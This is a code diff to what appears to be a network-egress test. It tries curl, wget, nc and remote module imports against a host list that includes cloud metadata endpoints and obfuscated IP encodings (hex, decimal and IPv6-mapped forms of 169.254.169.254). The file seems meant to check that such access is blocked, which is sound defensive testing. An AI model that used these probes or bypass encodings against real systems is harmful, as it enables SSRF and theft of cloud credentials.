@@ -27,7 +27,7 @@
 // @each new Promise((y, n) => require('child_process').exec('curl http://HOST/ || wget http://HOST/ || nc HOST 80', (e) => e ? n(e) : y()))
 // @each import('http://HOST/x.mjs')
 // @each import('https://HOST/x.mjs')
-const hosts = ['1.1.1.1', '169.254.169.254', '[::ffff:169.254.169.254]', '[::ffff:a9fe:a9fe]', '[64:ff9b::a9fe:a9fe]', '[2002:7f00:1::]', '[fd00:ec2::254]', '100.100.100.200', '192.168.0.1', '10.0.0.1', '0x7f.1', '2130706433', '[fe80::1%25lo]'];
+const hosts = ['1.1.1.1', '169.254.169.254', '[::ffff:169.254.169.254]', '[::ffff:a9fe:a9fe]', '[64:ff9b::a9fe:a9fe]', '[2002:7f00:1::]', '[fd00:ec2::254]', '100.100.100.200', '192.168.0.1', '10.0.0.1', '0xa9fea9fe', '2852039166', '10.1', '[fe80::1%25lo]'];
 const isNode = (text) => text.replace(/^\[|\]$/g, '').replace('%25', '%');
 const attempts = hosts.map((host) => (async () => {
   const HOST_URL = host, HOST_NAME = isNode(host);
